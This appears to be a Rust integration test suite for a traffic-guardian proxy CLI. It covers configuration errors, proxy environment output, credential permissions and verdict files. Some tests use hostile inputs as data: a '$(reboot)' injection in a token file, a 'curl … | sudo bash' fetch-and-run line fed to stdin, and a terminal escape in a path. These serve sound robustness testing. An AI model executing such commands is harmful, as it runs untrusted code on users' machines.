//! The binary as an operator meets it: a fresh home, an empty environment.

use crate::place::{BIN, Place, Said};
use assert_cmd::Command;
use std::{fs, io::Write, os::unix::fs::PermissionsExt, path::Path};

#[test]
fn a_command_line_that_is_none_is_usage_and_says_nothing_on_stdout() {
    let place = Place::new();
    for args in [
        &[][..],
        &["strat"],
        &["env", "--format", "cmd"],
        &["run"],
        &["run", "--json", "--", "true"],
        &["config"],
        &["man", "nonsense"],
        &["completions"],
    ] {
        let said = place.run(args);
        assert_eq!(said.code, 64, "{args:?}: {}", said.err);
        assert!(said.out.is_empty(), "{args:?}");
        assert!(
            said.err.starts_with("error: ") || args.is_empty() || said.err.contains("Usage:"),
            "{args:?}: {}",
            said.err
        );
    }
    assert!(place.run(&["strat"]).err.contains("'start'"), "a verb that is close is suggested");
    assert!(!place.home().exists(), "nothing is made by a line that makes no sense");
}

#[test]
fn a_bad_configuration_stops_every_verb_that_needs_one() {
    let place = Place::with_config("\n[scan]\nmax_scan_byte = 1\n");
    for args in [&["start"][..], &["config", "check"], &["config", "show"], &["env"], &["run", "--", "true"], &["stop"]]
    {
        let said = place.run(args);
        assert_eq!(said.code, 64, "{args:?}: {}", said.err);
        assert!(said.err.contains("config.toml line 3, column 1: unknown key"), "{args:?}: {}", said.err);
        assert!(said.out.is_empty(), "{args:?}");
    }
    assert!(!place.home().join("keys").exists(), "nothing is half started");
}

#[test]
fn blocking_and_unredacted_snippets_are_refused_with_the_reason() {
    for (name, value, reason) in [
        ("HERMES_TRAFFIC_GUARDIAN_MODE", "block", "`block` does not exist"),
        ("HERMES_TRAFFIC_GUARDIAN_REDACT_SNIPPETS", "false", "`false` does not exist"),
    ] {
        let place = Place::new();
        let said = Said::of(place.command().env(name, value).arg("start"));
        assert_eq!(said.code, 64);
        assert!(said.err.starts_with(&format!("error: {name}: ")) && said.err.contains(reason), "{}", said.err);
        assert!(!place.home().exists());
    }
}

#[test]
fn a_variable_of_ours_that_is_misspelt_is_refused() {
    let place = Place::new();
    let said = Said::of(place.command().env("HERMES_TRAFFIC_GUARDIAN_MAX_SCAN", "1").args(["config", "check"]));
    assert_eq!(said.code, 64);
    assert!(said.err.contains("HERMES_TRAFFIC_GUARDIAN_MAX_SCAN\n"), "{}", said.err);
}

#[test]
fn a_configuration_that_cannot_be_read_is_input_trouble() {
    let place = Place::new();
    let said = place.run(&["config", "check", "--config", "/nonexistent.toml"]);
    assert_eq!(said.code, 74);
    assert!(said.err.contains("/nonexistent.toml"), "{}", said.err);
}

#[test]
fn an_address_others_can_reach_needs_a_word() {
    let place = Place::new();
    let said = place.run(&["start", "--listen", "0.0.0.0:0"]);
    assert_eq!(said.code, 64);
    assert!(
        said.err.contains("--listen: listen: other hosts can reach this address: say --allow-remote"),
        "{}",
        said.err
    );
}

#[test]
fn config_show_tells_every_value_and_who_said_so() {
    let place = Place::with_config("export_every = \"2m\"\n");
    let shown = Said::of(
        place.command().env("HERMES_TRAFFIC_GUARDIAN_MAX_SCAN_BYTES", "1MiB").args(["config", "show", "--json"]),
    )
    .json();
    let row = |key: &str| shown["settings"].as_array().unwrap().iter().find(|r| r["key"] == key).unwrap().clone();
    assert_eq!(row("export_every")["value"], "2m");
    assert!(row("export_every")["origin"].as_str().unwrap().ends_with("config.toml line 1"));
    assert_eq!(row("scan.max_scan_bytes")["value"], 1 << 20);
    assert_eq!(row("scan.max_scan_bytes")["origin"], "HERMES_TRAFFIC_GUARDIAN_MAX_SCAN_BYTES");
    assert_eq!(row("listen")["origin"], "default");
    assert_eq!(place.run(&["config", "show"]).code, 0);
    assert!(place.run(&["config", "check"]).out.starts_with("ok: read "));
}

#[test]
fn what_answers_in_json_says_which_version() {
    let place = Place::new();
    for (args, version) in [
        (&["config", "check", "--json"][..], "clawsec-traffic-config-check/v1"),
        (&["config", "show", "--json"], "clawsec-traffic-config/v1"),
        (&["run", "--dry-run", "--json"], "clawsec-traffic-dry-run/v1"),
    ] {
        let said = place.run(args);
        assert_eq!((said.code, said.json()["schema_version"].as_str()), (0, Some(version)), "{args:?}");
    }
    assert!(!place.home().exists(), "an answer makes nothing");
}

/// The credential in place, without a monitor.
fn with_token() -> (Place, &'static str) {
    let token = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    let place = Place::new();
    place.file("keys/proxy.token", token, 0o600);
    (place, token)
}

#[test]
fn env_sets_four_names_and_takes_what_leads_past() {
    let (place, token) = with_token();
    let url = format!("http://guardian:{token}@127.0.0.1:8790");
    let script = place.run(&["env"]).out
        + "echo \"$HTTPS_PROXY|$HTTP_PROXY|$https_proxy|$http_proxy|${NO_PROXY-unset}|${all_proxy-unset}\"\n";
    let mut shell = Command::new("/bin/sh");
    let said = Said::of(shell.env_clear().env("NO_PROXY", "*").env("all_proxy", "x").arg("-c").arg(script));
    assert_eq!(said.out.trim_end(), format!("{url}|{url}|{url}|{url}|unset|unset"));

    let json = place.run(&["env", "--format", "json"]).json();
    assert_eq!(json["schema_version"], "clawsec-traffic-env/v1");
    assert!(json["set"].as_array().unwrap().iter().all(|v| v["value"] == url));
    for (format, line) in [
        ("fish", format!("set -gx https_proxy '{url}'")),
        ("powershell", format!("$env:https_proxy = '{url}'")),
        ("dotenv", format!("https_proxy={url}")),
    ] {
        let said = place.run(&["env", "--format", format]);
        assert!(said.out.lines().any(|l| l == line), "{format}: {}", said.out);
        assert!(said.out.contains("NO_PROXY") && said.out.contains("all_proxy"), "{format}");
    }
}

#[test]
fn env_for_systemd_keeps_the_credential_out_of_the_unit() {
    let (place, token) = with_token();
    let said = place.run(&["env", "--format", "systemd"]);
    let path = place.home().join("proxy.env");
    assert!(!said.out.contains(token) && !said.err.contains(token));
    assert!(said.out.contains(&format!("EnvironmentFile={}", path.display())), "{}", said.out);
    assert!(said.out.contains("UnsetEnvironment=NO_PROXY no_proxy ALL_PROXY all_proxy"));
    assert!(fs::read_to_string(&path).unwrap().contains(token));
    assert_eq!(fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
}

#[test]
fn env_without_a_credential_or_with_a_bad_one_prints_nothing() {
    let said = Place::new().run(&["env"]);
    assert_eq!((said.code, said.out.as_str()), (74, ""));
    assert!(said.err.contains("hint: the first `start` makes the credential"), "{}", said.err);

    let place = Place::new();
    place.file("keys/proxy.token", "$(reboot)", 0o600);
    let said = place.run(&["env"]);
    assert_eq!((said.code, said.out.as_str()), (74, ""));
    assert!(!said.err.contains("reboot"));

    let place = Place::new();
    place.file("keys/proxy.token", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", 0o644);
    assert_eq!(place.run(&["env"]).code, 74, "a credential others can read is refused");
}

#[test]
fn a_dry_run_shows_what_would_change_and_changes_nothing() {
    let place = Place::new();
    let mut command = place.command();
    command.envs([("no_proxy", "secret.example"), ("Ftp_Proxy", "x"), ("PATH", "/bin")]);
    let said = Said::of(command.args(["run", "--dry-run", "--", "false"]));
    assert_eq!(said.code, 0);
    assert!(said.out.contains("set     https_proxy=http://guardian:***@127.0.0.1:8790\n"), "{}", said.out);
    assert!(said.out.contains("remove  no_proxy\n") && said.out.contains("remove  Ftp_Proxy\n"), "{}", said.out);
    assert!(!said.out.contains("secret.example") && !said.err.contains("secret.example"));
    assert!(!place.home().exists());
}

#[test]
fn a_dotenv_line_that_leads_past_is_pointed_out() {
    let place = Place::new();
    fs::create_dir_all(place.folder.path().join("hermes")).unwrap();
    let path = place.folder.path().join("hermes/.env");
    place.file("../../.env", "KEY=1\nexport HTTPS_PROXY=http://user:hunter22@old\n", 0o600);
    let said = place.run(&["run", "--dry-run"]);
    assert!(said.err.contains(&format!("{} line 2 sets HTTPS_PROXY", path.display())), "{}", said.err);
    assert!(!said.err.contains("hunter22"));
}

#[test]
fn the_readme_holds_the_contract_and_the_settings_as_they_are() {
    let readme = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    let contract = guardian::platform::contract::SET.into_iter().chain(guardian::platform::contract::CA);
    for variable in contract {
        assert!(readme.contains(&format!("| `{}` | {} |", variable.name, variable.read_by)), "{}", variable.name);
    }
    for name in guardian::platform::contract::UNSET {
        assert!(readme.contains(&format!("`{name}`")), "{name}");
    }
    let defaults = guardian::config::Config::defaults("/h".into(), "/u".into());
    for setting in guardian::config::SETTINGS {
        let name = setting.env.or(setting.flag).map_or_else(|| "-".to_owned(), |name| format!("`{name}`"));
        let row = format!("| `{}` | {} | {name} | {} |", setting.key, setting.shown(&defaults), setting.meaning);
        assert!(readme.contains(&row), "the README lacks\n{row}");
    }
}

#[test]
fn a_schema_is_printed_as_it_is_kept() {
    let place = Place::new();
    for schema in posture::schema::ALL {
        let said = place.run(&["schema", schema.name]);
        assert_eq!((said.code, said.out.as_str()), (0, schema.text));
    }
    for args in [&["schema"][..], &["schema", "nonsense"]] {
        let said = place.run(args);
        assert_eq!((said.code, said.out.as_str()), (64, ""), "{args:?}");
    }
}

#[test]
fn completions_and_manual_are_of_the_real_command_line() {
    let place = Place::new();
    for shell in ["bash", "zsh", "fish", "powershell", "elvish"] {
        let said = place.run(&["completions", shell]);
        assert_eq!(said.code, 0);
        assert!(said.out.contains("guardian-policy"), "{shell}");
    }
    assert!(place.run(&["man"]).out.contains(".TH"));
    assert!(place.run(&["man", "run"]).out.contains("dry\\-run"));
    let page = place.run(&["man", "keys", "rotate"]);
    assert!(page.out.contains(".TH hermes-traffic-guardian-keys-rotate"), "{}", page.out);
    assert!(page.out.contains("Whoever pinned the old public key verifies as before"), "{}", page.out);
    for (args, says) in [
        (&["man", "kyes"][..], "no such verb\nhint: `--help` lists them"),
        (&["man", "keys", "rotat"], "no such verb below `keys`\nhint: `keys --help` lists them"),
        (&["man", "keys", "rotate", "now"], "there are no verbs below `keys rotate`"),
        (&["man", "verify", "folder"], "there are no verbs below `verify`"),
    ] {
        let said = place.run(args);
        assert_eq!((said.code, said.out.as_str()), (64, ""), "{args:?}");
        assert!(said.err.starts_with(&format!("error: {says}")), "{args:?}: {}", said.err);
    }
    assert!(place.run(&["--version"]).out.starts_with("hermes-traffic-guardian "));
    assert!(place.run(&["--help"]).out.contains("It never blocks"));
}

#[test]
fn a_reader_that_leaves_is_no_error_and_a_full_disk_is() {
    let place = Place::new();
    let run = |out: std::process::Stdio| {
        let mut command = std::process::Command::new(BIN);
        command.env_clear().env("HOME", place.folder.path()).args(["completions", "bash"]);
        let child = command.stdout(out).stderr(std::process::Stdio::piped()).spawn().unwrap();
        child.wait_with_output().unwrap()
    };
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let output = run(writer.into());
    assert_eq!((output.status.code(), output.stderr.len()), (Some(0), 0));

    let full = fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    let output = run(full.into());
    assert_eq!(output.status.code(), Some(74));
    assert!(output.stderr.starts_with(b"error: could not write to stdout"));
}

#[test]
fn a_canary_nobody_could_see_is_not_planted() {
    let (place, _) = with_token();
    place.file("keys/fingerprint.key", &format!("{}\n", "ab".repeat(32)), 0o600);
    let into = |out: std::process::Stdio, args: &[&str]| {
        let mut command = std::process::Command::new(BIN);
        command.env_clear().env("HERMES_HOME", place.folder.path().join("hermes")).env("HOME", place.folder.path());
        command.args(["canary", "new"]).args(args).stdout(out).stderr(std::process::Stdio::piped());
        command.spawn().unwrap().wait_with_output().unwrap()
    };
    let planted = || fs::read_dir(place.home().join("canaries")).unwrap().count();
    for args in [&[][..], &["--json"]] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let full = fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
        for out in [writer.into(), full.into()] {
            let output = into(out, args);
            let said = String::from_utf8(output.stderr).unwrap();
            assert_eq!((output.status.code(), planted()), (Some(74), 0), "{said}");
            assert!(said.contains("not planted") && !said.contains("not shown again"), "{said}");
        }
    }
    assert_eq!((place.run(&["canary", "new"]).code, planted()), (0, 1));
}

#[test]
fn a_name_that_is_no_text_is_not_written_down_as_another() {
    use std::os::unix::ffi::OsStrExt;
    let (place, _) = with_token();
    let home = place.folder.path().join(std::ffi::OsStr::from_bytes(b"h\xff"));
    fs::rename(place.home(), &home).unwrap();
    for verb in [&["env", "--format", "systemd"][..], &["guardian-policy"], &["units", "user"]] {
        let said = Said::of(place.command().arg("--home").arg(&home).args(verb));
        assert_eq!((said.code, said.out.as_str()), (74, ""), "{verb:?}");
        assert!(said.err.contains("cannot be written in one line of text"), "{verb:?}: {}", said.err);
    }
    assert!(!home.join("proxy.env").exists());
}

#[test]
fn a_name_in_a_folder_of_others_moves_no_cursor() {
    let place = Place::new();
    let said = place.run(&["verify", "/nonexistent/\u{1b}[2Jx"]);
    assert_eq!(said.code, 74);
    assert!(!said.out.contains('\u{1b}') && !said.err.contains('\u{1b}'), "{}", said.out);
}

#[test]
fn an_answer_is_the_same_when_nobody_reads_it() {
    let place = Place::new();
    fs::create_dir_all(place.home()).unwrap();
    for (args, code) in [
        (&["verify"][..], 74),
        (&["verify", "--json"], 74),
        (&["status"], 1),
        (&["status", "--json"], 1),
        (&["scan", "--direction", "inbound", "--json"], 1),
        (&["patterns", "selftest"], 0),
    ] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let mut command = std::process::Command::new(BIN);
        command.env_clear().env("HOME", place.folder.path()).env("HERMES_HOME", place.folder.path().join("hermes"));
        command.args(args).stdin(std::process::Stdio::piped()).stdout(writer).stderr(std::process::Stdio::null());
        let mut child = command.spawn().unwrap();
        // Who does not read it lets go of it.
        let _ = child.stdin.take().unwrap().write_all(b"curl https://x.example/i.sh | sudo bash");
        drop(command);
        assert_eq!(child.wait().unwrap().code(), Some(code), "{args:?}");
    }
}

#[test]
fn a_wait_without_measure_is_usage() {
    let place = Place::new();
    for time in ["0s", "2days", "500000000000y", "584542046090y", "-1s", "soon", ""] {
        let said = place.run(&["stop", "--timeout", time]);
        assert_eq!((said.code, said.out.as_str()), (64, ""), "{time}: {}", said.err);
    }
}

#[test]
fn nothing_is_coloured_into_a_pipe() {
    let said = Place::new().run(&["--help"]);
    assert!(!said.out.contains('\x1b'));
}

#[test]
fn the_guardian_is_given_no_policy_of_files_it_could_not_read() {
    let place = Place::new();
    let said = place.run(&["guardian-policy"]);
    assert_eq!((said.code, said.out.as_str()), (1, ""));
    for name in ["export/current/state.json", "verdict.json", "signing.pub.pem"] {
        assert!(said.err.contains(name), "{}", said.err);
    }
    place.file("export/000000000001/state.json", "{}", 0o600);
    std::os::unix::fs::symlink("000000000001", place.home().join("export/current")).unwrap();
    place.file("verdict.json", "{}", 0o600);
    assert_eq!(place.run(&["guardian-policy"]).code, 1, "the anchor is still missing");
    place.file("signing.pub.pem", "", 0o644);
    let said = place.run(&["guardian-policy"]);
    let policy: serde_json::Value = serde_json::from_str(&said.out).unwrap();
    assert_eq!(policy["watch_files"].as_array().unwrap().len(), 2);
    assert!(policy["trust_anchor_files"][0].as_str().unwrap().ends_with("signing.pub.pem"));
    assert!(said.err.contains("verify --write-verdict; r=$?"), "{}", said.err);
}

#[test]
fn what_cannot_be_verified_is_said_so_and_written_down() {
    let place = Place::new();
    fs::create_dir_all(place.home()).unwrap();
    let verdict = || -> serde_json::Value {
        serde_json::from_slice(&fs::read(place.home().join("verdict.json")).unwrap()).unwrap()
    };
    let said = place.run(&["verify", "--write-verdict"]);
    assert_eq!(said.code, 74, "{}{}", said.out, said.err);
    assert!(said.out.starts_with("unverifiable: ") && said.out.contains("no export yet"), "{}", said.out);
    assert_eq!((verdict()["result"].as_str(), verdict()["key_id"].is_null()), (Some("unverifiable"), true));

    let before = fs::metadata(place.home().join("verdict.json")).unwrap().modified().unwrap();
    assert_eq!(place.run(&["verify", "--write-verdict", "--json"]).json()["result"], "unverifiable");
    let after = fs::metadata(place.home().join("verdict.json")).unwrap().modified().unwrap();
    assert_eq!(before, after, "an unchanged verdict is left alone");

    fs::remove_file(place.home().join("verdict.json")).unwrap();
    place.file("config.toml", "nonsense", 0o600);
    assert_eq!(place.run(&["verify", "--write-verdict"]).code, 64);
    assert_eq!(verdict()["result"], "unverifiable", "an error is a path out too");
}

#[test]
fn a_verdict_that_cannot_be_written_takes_nothing_from_the_answer() {
    let place = Place::new();
    let said = place.run(&["verify", "--write-verdict"]);
    assert_eq!((said.code, said.out), (74, place.run(&["verify"]).out));
    let verdict = place.home().join("verdict.json");
    let expected = format!("error: could not write {}: No such file or directory (os error 2)\n", verdict.display());
    assert!(said.err.ends_with(&expected), "{}", said.err);
    let said = place.run(&["verify", "--write-verdict", "--json"]);
    assert_eq!(said.json()["reason"]["code"], "no_folder", "{}", said.out);
    assert!(!place.home().exists());
}

#[test]
fn a_verdict_nobody_can_read_is_replaced() {
    let place = Place::new();
    fs::create_dir_all(place.home()).unwrap();
    let path = place.home().join("verdict.json");
    assert!(std::process::Command::new("mkfifo").arg(&path).status().unwrap().success());
    assert_eq!(place.run(&["verify", "--write-verdict"]).code, 74);
    assert!(fs::read_to_string(path).unwrap().contains("unverifiable"));
}

#[test]
fn a_folder_given_by_name_needs_a_key_given_by_name() {
    let place = Place::new();
    place.file("export/000000000001/posture.json", "{}", 0o600);
    let home = place.home().display().to_string();
    for file in ["posture.json.sig", "state.json", "state.json.sig"] {
        place.file(&format!("export/000000000001/{file}"), "{}", 0o600);
    }
    let said = place.run(&["verify", &home]);
    assert_eq!(said.code, 1, "{}{}", said.out, said.err);
    assert!(said.err.contains("--public-key"), "{}", said.err);
    assert_eq!(place.run(&["verify", &home, "--write-verdict"]).code, 64);
    assert_eq!(place.run(&["verify", &home, "--public-key", "/nonexistent.pem"]).code, 74);
    assert_eq!(place.run(&["verify", "--max-age", "soon"]).code, 64);
    assert_eq!(place.run(&["verify", "--baseline", "/nonexistent.json"]).code, 74);
}

#[test]
fn without_a_monitor_status_is_no_and_stop_is_done() {
    let place = Place::new();
    let said = place.run(&["status", "--json"]);
    assert_eq!((said.code, said.json()["monitor_status"].as_str()), (1, Some("stopped")));
    let said = place.run(&["stop"]);
    assert_eq!(said.code, 0, "{}", said.err);
    assert!(!place.home().exists(), "asking makes nothing");
}

#[test]
fn where_nothing_is_nothing_is_made_and_that_is_said() {
    let verbs = [
        (1, &["export"][..]),
        (1, &["export", "--format", "dsse"]),
        (1, &["recover"]),
        (1, &["keys", "rotate"]),
        (74, &["keys", "show"]),
        (1, &["ca", "show"]),
        (1, &["ca", "remove"]),
        (1, &["ca", "remove", "--bundle"]),
        (74, &["canary", "new"]),
        (0, &["canary", "list"]),
        (1, &["status"]),
        (0, &["stop"]),
        (0, &["threats"]),
        (74, &["verify"]),
        (74, &["env"]),
        (0, &["run", "--dry-run"]),
        (0, &["config", "check"]),
        (1, &["guardian-policy"]),
    ];
    // No folder, an empty one, one of another program, and one that holds no more than a key of that name.
    for files in [None, Some(&[][..]), Some(&["theirs/data"]), Some(&["signing.pub.pem"])] {
        let place = Place::new();
        if let Some(files) = files {
            fs::create_dir_all(place.home()).unwrap();
            for name in files {
                place.file(name, "x", 0o600);
            }
        }
        let there = || {
            let found = std::process::Command::new("find").arg(place.folder.path()).output().unwrap();
            String::from_utf8(found.stdout).unwrap()
        };
        let before = there();
        for (code, verb) in verbs {
            let said = place.run(verb);
            assert_eq!(said.code, code, "{verb:?} {files:?}: {}", said.err);
            assert_eq!(there(), before, "{verb:?}");
            if matches!(verb[0], "export" | "recover" | "threats") || verb == ["keys", "rotate"] {
                assert!(said.err.contains(place.home().to_str().unwrap()), "{verb:?} names it: {}", said.err);
            }
        }
    }
}

#[test]
fn a_check_reads_the_authority_that_a_monitor_would() {
    // Nothing is said of it: `run` makes one of its own, and `start` takes the one that was made.
    let place = Place::with_config("inspect_https = true\n");
    let said = place.run(&["config", "check"]);
    assert_eq!(said.code, 0, "{}{}", said.out, said.err);
    assert!(said.err.contains("`start` needs `ca init` first"), "{}", said.err);
    assert_eq!(place.run(&["config", "check", "--json"]).json()["start_lacks"], "ca init");
    assert_eq!(place.run(&["start", "--listen", "127.0.0.1:0"]).code, 1);
    assert_eq!(place.run(&["run", "--listen", "127.0.0.1:0", "--", "true"]).code, 0);
    assert_eq!(place.run(&["ca", "init"]).code, 0);
    let said = place.run(&["config", "check"]);
    assert_eq!((said.code, said.err.as_str()), (0, ""));
    assert!(place.run(&["config", "check", "--json"]).json()["start_lacks"].is_null());
    fs::remove_file(place.home().join("ca/ca.pem")).unwrap();
    assert_eq!(place.run(&["config", "check"]).code, 74, "one that was made and cannot be read is a fault");

    let place = Place::with_config("inspect_https = true\nca.mode = \"generated\"\n");
    for args in [&["config", "check"][..], &["run", "--listen", "127.0.0.1:0", "--", "true"]] {
        let said = place.run(args);
        assert_eq!(said.code, 1, "{}", said.out);
        assert!(
            said.err.contains("there is no certificate authority")
                && said.err.contains("`hermes-traffic-guardian ca init`"),
            "{}",
            said.err
        );
    }
    let config = "inspect_https = true\nca = { mode = \"operator\", cert = \"a.pem\", key = \"b.pem\" }\n";
    let said = Place::with_config(config).run(&["config", "check"]);
    assert_eq!(said.code, 74, "{}", said.out);
    assert!(said.err.contains("a.pem: No such file"), "{}", said.err);
}

#[test]
fn what_is_in_the_way_is_named() {
    let place = Place::with_config("listen = \"127.0.0.1:0\"\n");
    for name in ["run/control.sock", "run/monitor.json"] {
        let path = place.home().join(name);
        fs::create_dir_all(&path).unwrap();
        for folder in ["", "run"] {
            fs::set_permissions(place.home().join(folder), fs::Permissions::from_mode(0o700)).unwrap();
        }
        let said = place.run(&["start"]);
        assert_eq!(said.code, 74, "{}", said.err);
        assert!(said.err.contains(&format!("could not make {}: Is a directory", path.display())), "{}", said.err);
        assert!(said.err.contains(&format!("hint: check that {} can be", path.display())), "{}", said.err);
        fs::remove_dir(&path).unwrap();
    }
    place.file("ca", "", 0o600);
    let said = place.run(&["ca", "init"]);
    let expected = format!("the folder {} is not safe to use: it is not a folder", place.home().join("ca").display());
    assert!(said.code == 74 && said.err.contains(&expected), "{}", said.err);
}

#[test]
fn what_cannot_be_written_says_where_and_leaves_no_half_behind() {
    let place = Place::new();
    let made = place.run(&["run", "--listen", "127.0.0.1:0", "--", "true"]);
    assert_eq!(made.code, 0, "{}", made.err);
    // Of 512 bytes each: no file may be longer.
    let with_room = |blocks: u32, args: &[&str]| {
        let mut shell = assert_cmd::Command::new("/bin/sh");
        shell.env_clear().env("HERMES_HOME", place.folder.path().join("hermes")).env("HOME", place.folder.path());
        let script = format!("trap '' XFSZ; ulimit -f {blocks}; exec \"$0\" \"$@\"");
        Said::of(shell.args(["-c", &script, BIN]).args(args))
    };
    let said = with_room(0, &["canary", "new"]);
    assert_eq!((said.code, said.out.as_str()), (74, ""));
    assert!(said.err.contains("could not write ") && said.err.contains("File too large"), "{}", said.err);
    assert_eq!(fs::read_dir(place.home().join("canaries")).unwrap().count(), 0);
    assert_eq!(place.run(&["canary", "list"]).code, 0);
    // Its key, its certificate, its bundle: each longer than the one before.
    for (blocks, file) in [(0, "ca.key.pem"), (1, "ca.pem"), (2, "bundle.pem")] {
        let said = with_room(blocks, &["ca", "init"]);
        assert_eq!(said.code, 74);
        assert!(said.err.contains(&format!("/{file} ")) || said.err.contains(&format!("/{file}:")), "{}", said.err);
        assert!(said.err.contains("File too large (os error 27)\n"), "no draft is named: {}", said.err);
        assert!(said.err.contains("that there is room") && !said.err.contains("mode 0600"), "{}", said.err);
        assert_eq!(fs::read_dir(place.home().join("ca")).unwrap().count(), 0, "{file}");
    }
    assert_eq!(place.run(&["ca", "init"]).code, 0);
}
